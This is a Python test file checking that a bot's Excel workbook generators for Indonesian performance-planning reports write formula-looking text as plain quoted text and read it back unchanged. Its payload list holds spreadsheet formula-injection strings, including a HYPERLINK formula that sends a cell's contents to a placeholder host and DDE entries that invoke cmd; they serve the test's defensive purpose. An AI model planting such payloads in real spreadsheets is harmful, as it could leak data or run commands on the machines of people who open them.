"""Formula injection: text from people and imports that starts like a formula (``= + - @``,
a tab or a carriage return) is written as text in every workbook the bot generates, and
reading the workbook back gives the same text."""

from __future__ import annotations

import dataclasses
import io
import re
from collections.abc import Callable
from datetime import date
from enum import Enum
from typing import Any

import pytest
from openpyxl import load_workbook

from bot.analysis.workbook.writing import (
    AnalysisRow,
    RecommendationRow,
    SheetContent,
    analysis_workbook,
)
from bot.core.profile import load_profile
from bot.core.xlsx_text import FORMULA_STARTS
from bot.packages.mapping_workbook import MappingRow, mapping_workbook
from bot.performance.documents.workbook import report_workbook
from bot.planning.documents.data_template import PackageRow, performance_data_template
from bot.planning.documents.workbook import plan_workbook, read_plan_workbook
from bot.planning.rules.example import example_plan
from tests.test_performance_documents import _report

PAYLOADS = (
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


_CHECKED = ("code", "key", "unit", "formula")


def hostile(value: Any, numbers: Any = None) -> Any:
    """``value`` with every plain string (but codes, keys, units and formulas: checked)
    into a formula-looking one; equal strings stay equal."""
    numbers = numbers if numbers is not None else {}
    if type(value) is str:
        if re.fullmatch(r"[a-z_][a-z0-9_]*", value):  # an input name, checked as such
            return value
        if value not in numbers:
            numbers[value] = PAYLOADS[len(numbers) % len(PAYLOADS)]
        return f"{numbers[value]} {value}" if value else value
    if isinstance(value, Enum) or (
        not isinstance(value, tuple | list | dict)
        and not (dataclasses.is_dataclass(value) and not isinstance(value, type))
    ):
        return value
    if isinstance(value, dict):
        return {k: hostile(v, numbers) for k, v in value.items()}
    if isinstance(value, tuple | list):
        return type(value)(hostile(v, numbers) for v in value)
    changes = {
        f.name: hostile(getattr(value, f.name), numbers)
        for f in dataclasses.fields(value)
        if f.init and not any(word in f.name for word in _CHECKED)
    }
    return dataclasses.replace(value, **changes)


PLAN = hostile(example_plan(2027))
ROWS = hostile(
    (
        MappingRow("60001", "Pembangunan Jalan", "Dinas PUPR", 2_500_000_000, "Tender", None),
        MappingRow("60002", "Belanja ATK", "Sekretariat Daerah", 75_000_000, "Tender", None),
    )
)


def _plan() -> bytes:
    return plan_workbook(PLAN, title="=Rencana Kinerja")


def _mapping() -> bytes:
    return mapping_workbook(ROWS, PLAN, title="-Pemetaan")


def _template() -> bytes:
    packages = hostile((PackageRow("=60001", "Pembangunan Jalan", 1_000_000.0, None),))
    return performance_data_template(
        PLAN, unit_name="=Dinas PUPR", period_label="@Triwulan I", packages=packages
    )


def _analysis() -> bytes:
    rows = hostile((AnalysisRow("IKU-01", "Indikator", "90%", "100%", "90%", "Baik", "a", "b"),))
    advice = hostile((RecommendationRow("IKU-01", "Jadwal", "Pokja", date(2027, 6, 30)),))
    content = SheetContent(2027, "triwulanan-1", "Triwulan I", "=Dinas", rows, advice, 0)
    return analysis_workbook(content)


def _performance() -> bytes:
    report = _report()
    compilation = hostile(report.compilation)
    return report_workbook(load_profile(), dataclasses.replace(report, compilation=compilation))


WRITERS: dict[str, Callable[[], bytes]] = {
    "rencana": _plan,
    "pemetaan": _mapping,
    "template-data-kinerja": _template,
    "lembar-analisis": _analysis,
    "laporan-kinerja": _performance,
}


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", list(WRITERS))
def test_text_that_looks_like_a_formula_is_written_as_text(name: str) -> None:
    cells = _cells(WRITERS[name]())
    looking = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    formulas = [c for c in looking if c.data_type == "f"]
    # The mapping sheet's own lookup of the area name is the one formula the bot writes.
    formulas = [c for c in formulas if not str(c.value).startswith("=IF(TRIM(")]
    assert looking, name
    assert formulas == [], [(c.coordinate, c.value) for c in formulas]
    unquoted = [c for c in looking if c.data_type != "f" and not c.quotePrefix]
    assert unquoted == [], [(c.parent.title, c.coordinate, c.value) for c in unquoted[:5]]


def test_the_plan_reads_back_as_typed() -> None:
    back = read_plan_workbook(_plan(), year=2027)
    assert not isinstance(back, list), back
    # The reader trims the leading tab or line break; the rest comes back as typed.
    typed = [x.name.strip() for x in (*PLAN.areas, *PLAN.indicators)]
    assert [a.name for a in back.areas] + [i.name for i in back.indicators] == typed
    assert any(name.startswith("=HYPERLINK") for name in typed)


def test_no_payload_is_lost_on_the_way() -> None:
    seen = {str(c.value) for c in _cells(_plan()) if isinstance(c.value, str)}
    # XML keeps no bare carriage return: "\r" comes back as "\n", still text.
    missing = [p for p in PAYLOADS if not any(v.startswith(p.replace("\r", "\n")) for v in seen)]
    assert missing == []
